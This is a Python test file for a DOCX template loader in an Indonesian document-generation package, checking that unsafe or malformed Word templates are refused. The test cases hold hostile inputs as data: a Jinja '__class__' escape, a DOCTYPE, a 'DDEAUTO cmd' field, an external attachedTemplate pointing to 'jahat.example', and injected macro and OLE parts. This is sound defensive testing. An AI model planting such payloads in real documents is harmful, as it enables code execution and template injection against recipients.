"""Frames and logos: what cannot be used is refused, with what to do about it."""

import pickle
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from _docx_naskah import docx_of, parts
from _every import every
from _gambar import jpeg, png
from _helpers import ROOT

from kerjasama_docs.docx.frame import compile as frame
from kerjasama_docs.docx.frame.names import BLOCKS, NAMES, PARTS_OF, SWITCHES, WORDS, Bentuk
from kerjasama_docs.docx.frame.prepare import prepare
from kerjasama_docs.docx.page import logos
from kerjasama_docs.docx.wml import reading
from kerjasama_docs.errors import InternalError, UsageError
from kerjasama_docs.model.profil import Profil
from kerjasama_docs.pictures import Picture
from kerjasama_docs.pipeline import load

FRAME = ROOT / "templates/kerangka/naskah.docx"
PROFIL = Profil.model_validate({"nama": "Uji"})


def changed(folder: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """A copy of the bundled frame with other parts."""
    content = parts(FRAME.read_bytes())
    change(content)
    path = folder / "naskah.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return path


def replacing(old: str, new: str) -> Callable[[dict[str, bytes]], None]:
    """A change of the text of the document."""

    def change(content: dict[str, bytes]) -> None:
        text = content["word/document.xml"].decode()
        assert old in text
        content["word/document.xml"] = text.replace(old, new).encode()

    return change


def swelling(content: dict[str, bytes]) -> None:
    """A part that is far larger unpacked than packed."""
    content["word/media/besar.png"] = bytes(reading.MAX_UNPACKED + 1)


def typed(part: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    """A change of the bytes of a part."""

    def change(content: dict[str, bytes]) -> None:
        assert old in content[part]
        content[part] = content[part].replace(old, new, 1)

    return change


def having(part: str) -> Callable[[dict[str, bytes]], None]:
    """One more part."""

    def change(content: dict[str, bytes]) -> None:
        content[part] = b"x"

    return change


def sectionless(content: dict[str, bytes]) -> None:
    """A document without the section at its end."""
    text = content["word/document.xml"].decode()
    content["word/document.xml"] = re.sub(r"<w:sectPr.*</w:sectPr>", "", text).encode()


SPLIT = (
    "<w:p><w:r><w:t>{</w:t></w:r><w:del><w:r><w:delText>% for x in nama %}{% endfor %</w:delText></w:r></w:del>"
    "<w:r><w:t>}</w:t></w:r></w:p>"
).replace("%}{% endfor %", "%</w:delText></w:r></w:del><w:r><w:t>}{</w:t></w:r><w:del><w:r><w:delText>% endfor %")
"""A loop that docxtpl joins of texts no reader sees together."""
ATTACHED = (
    b'<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://jahat.example/a.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def headless(content: dict[str, bytes]) -> None:
    """No document at all."""
    del content["word/document.xml"]


def test_the_bundled_frame_is_used() -> None:
    assert set(frame.load_frame(FRAME, PROFIL).templates) >= {"word/document.xml", "word/footer1.xml"}


@every(
    ("change", "says"),
    [
        (replacing("{{p isi }}", ""), r"Jangkar \{\{p isi \}\} tidak ada"),
        (replacing("{{p judul }}", "{{ judul"), "dibuka, tetapi tidak ditutup"),
        (replacing("{{p kepala }}", "{{ kepala.x.y( }}"), "tidak terbaca: tanda {{ }} tidak tertutup"),
        (replacing("{{p kepala }}", "{% for x in nama %}{% endfor %}"), "Perintah “for” tidak dipakai"),
        (replacing("{{p kepala }}", "{% set nama = 1 %}"), "Perintah “set” tidak dipakai"),
        (replacing("{{p kepala }}", "{{ jenis.__class__ }}"), "bagian dari suatu nilai, yang tidak diizinkan"),
        (replacing("{{p kepala }}", "{{ entah }}"), "Nama “entah” tidak dikenal"),
        (replacing("{{p isi }}", "{{p isi }} teks dinas"), "berbagi paragraf dengan teks “teks dinas”, yang akan"),
        (replacing("<w:p><w:r><w:t>{{p kepala }}", SPLIT + "<w:p><w:r><w:t>{{p kepala }}"), r"tidak diizinkan \(For"),
        (replacing("<w:document", "<!DOCTYPE x><w:document"), "memuat DOCTYPE"),
        (replacing("<w:body>", "<w:body><w:p><w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r></w:p>"), "DDEAUTO"),
        (replacing("<w:sectPr>", "<w:x>"), "XML"),
        (typed("word/styles.xml", b"Judul Naskah", b"Judul {{ nama }}"), "word/styles.xml, yang tidak diisi"),
        (typed("word/styles.xml", b"Judul Naskah", b"Judul \xe9"), "styles.xml (bukan UTF-8|bukan XML)"),
        (typed("word/styles.xml", b'encoding="UTF-8"', b'encoding="ISO-8859-1"'), "styles.xml bukan UTF-8"),
        (typed("word/_rels/document.xml.rels", b"</Relationships>", ATTACHED), "attachedTemplate"),
        (having("word/vbaProject.bin"), "makro"),
        (having("word/embeddings/oleObject1.bin"), "OLE"),
        (sectionless, "akhir bagian"),
        (swelling, "terlalu besar"),
        (headless, "bukan berkas Word"),
    ],
)
def test_a_frame_that_cannot_be_used_is_refused(
    change: Callable[[dict[str, bytes]], None], says: str, tmp_path: Path
) -> None:
    with pytest.raises(UsageError, match=says) as caught:
        frame.load_frame(changed(tmp_path, change), PROFIL)
    assert caught.value.remedy


def test_a_prepared_frame_is_data_that_can_be_kept() -> None:
    """As it is when the package is built: nothing of it is an object of Jinja or lxml."""
    kept = pickle.loads(pickle.dumps(prepare(FRAME)))  # noqa: S301 - our own
    face = frame.Face(PROFIL.huruf, PROFIL.kertas, roman=False, pasal="Pasal", tag="id-ID")
    words, blocks = dict.fromkeys((*WORDS, *SWITCHES), ""), dict.fromkeys(BLOCKS, "<w:p/>")
    again, fresh = frame.frame_of(kept, face), frame.load_frame(FRAME, PROFIL)
    assert again.render(words, blocks) == fresh.render(words, blocks)
    assert (again.base, again.numbering, again.relations) == (fresh.base, fresh.numbering, fresh.relations)


@every("bentuk", [*PARTS_OF])
def test_a_part_that_a_bentuk_forgets_does_not_vanish(bentuk: Bentuk) -> None:
    made = frame.load_frame(FRAME.with_stem(bentuk), PROFIL)
    assert made.bentuk == bentuk
    words = dict.fromkeys((*WORDS, *SWITCHES), "")
    given = dict.fromkeys(PARTS_OF[bentuk], "<w:p/>")
    made.render(words, given)
    for name in given:
        with pytest.raises(InternalError, match=f"Bagian {name} dari {bentuk} tidak disusun"):
            made.render(words, {other: xml for other, xml in given.items() if other != name})


@every("char", ["\x00", "\x1f", "\x1e", "\ufffe", "\uffff", "\ud800"])
@every("place", ["halaman", "isi"])
def test_a_character_that_no_document_can_hold_is_refused(char: str, place: str) -> None:
    made = frame.load_frame(FRAME, PROFIL)
    words, blocks = dict.fromkeys((*WORDS, *SWITCHES), ""), dict.fromkeys(BLOCKS, "<w:p/>")
    given = words if place in words else blocks
    given[place] = f"<w:p><w:r><w:t>a{char}b</w:t></w:r></w:p>"
    with pytest.raises(UsageError, match=r"tidak dapat dicetak|XML yang benar"):
        made.render(words, blocks)


@pytest.mark.parametrize("margin", ["", '<w:pgMar w:top="1"/>'])
@pytest.mark.parametrize("size", ["", '<w:pgSz w:w="1"/>'])
def test_a_frame_gets_its_page_whatever_its_section_says(size: str, margin: str, tmp_path: Path) -> None:
    rest = '<w:cols w:space="720"/><w:titlePg/>'

    def change(content: dict[str, bytes]) -> None:
        text = content["word/document.xml"].decode()
        content["word/document.xml"] = re.sub(r"<w:pgSz.*<w:cols[^>]*/>", size + margin + rest, text).encode()

    made = frame.load_frame(changed(tmp_path, change), PROFIL)
    document = made.render(dict.fromkeys(NAMES, ""), dict.fromkeys(BLOCKS, ""))["word/document.xml"].decode()
    assert made.page.section() + rest in document
    assert document.count("<w:pgSz") == document.count("<w:pgMar") == 1
    assert made.section.with_page(made.page).endswith(made.page.section() + rest)
    assert "titlePg" not in made.section.following().after


def test_a_section_of_a_frame_that_lies_on_its_side_stays_so(tmp_path: Path) -> None:
    section = '<w:p><w:pPr><w:sectPr><w:pgSz w:w="9" w:h="5" w:orient="landscape"/></w:sectPr></w:pPr></w:p>'
    made = frame.load_frame(changed(tmp_path, replacing("<w:body>", "<w:body>" + section)), PROFIL)
    document = made.render(dict.fromkeys(NAMES, ""), dict.fromkeys(BLOCKS, ""))["word/document.xml"].decode()
    assert made.page.turned().section(landscape=True) in document
    assert made.page.section() in document


def resaved(content: dict[str, bytes]) -> None:
    """What Word leaves of the parts that we add to: no types and relationships without a user, closed roots."""
    types = content["[Content_Types].xml"].decode()
    types = re.sub(r'<Default Extension="(png|jpeg)"[^>]*/>|<Override PartName="/docProps/custom[^>]*/>', "", types)
    content["[Content_Types].xml"] = types.replace(
        "<Override", '<Default Extension="PNG" ContentType="image/png"/><Override', 1
    ).encode()
    content["_rels/.rels"] = re.sub(rb"<Relationship [^>]*custom-properties[^>]*/>", b"", content["_rels/.rels"])
    content["word/media/logo1.png"] = b"kop"
    del content["docProps/custom.xml"]


def test_logos_and_properties_in_a_frame_that_word_saved(tmp_path: Path) -> None:
    (tmp_path / "templat/kerangka").mkdir(parents=True)
    changed(tmp_path / "templat/kerangka", resaved)
    for name, data in (("a.png", png()), ("b.jpg", jpeg())):
        (tmp_path / name).write_bytes(data)
    source = tmp_path / "naskah.yaml"
    source.write_text(
        "jenis: nota-kesepahaman\nprofil: umum\npihak: [{nama: A, logo: a.png}, {nama: B, logo: b.jpg}]\n", "utf-8"
    )
    content = parts(docx_of(load(source, templates=tmp_path / "templat")))
    assert content["word/media/logo1.png"] == b"kop"
    types = content["[Content_Types].xml"].decode()
    assert len(re.findall(r'Extension="(?:png|PNG)"', types)) == 1
    assert 'Extension="jpeg" ContentType="image/jpeg"' in types
    assert types.count('PartName="/docProps/custom.xml"') == 1
    assert 'Target="docProps/custom.xml"' in content["_rels/.rels"].decode()
    related = dict(
        re.findall(r'Id="(\w+)"[^>]*Target="(media/[^"]+)"', content["word/_rels/document.xml.rels"].decode())
    )
    asked = re.findall(r'r:embed="(\w+)"', content["word/document.xml"].decode())
    assert len(asked) == 2
    assert all(f"word/{related[name]}" in content for name in asked)


@pytest.mark.parametrize("content", [b"", b"bukan zip", FRAME.read_bytes()[:2000]])
def test_a_frame_that_is_no_zip_is_refused(content: bytes, tmp_path: Path) -> None:
    path = tmp_path / "naskah.docx"
    path.write_bytes(content)
    with pytest.raises(UsageError, match="bukan berkas DOCX yang utuh") as caught:
        frame.load_frame(path, PROFIL)
    assert "Simpan ulang" in caught.value.remedy


def test_many_logos_share_the_line() -> None:
    made = logos.drawing(Picture(b"", "png", 300, 100), "r1", "logo", number=1, room=logos.room_of(8, 8787))
    (width, height) = map(int, re.findall(r'<wp:extent cx="(\d+)" cy="(\d+)"', made)[0])
    assert width == (8787 // 8 - 108) * 635
    assert height == width // 3
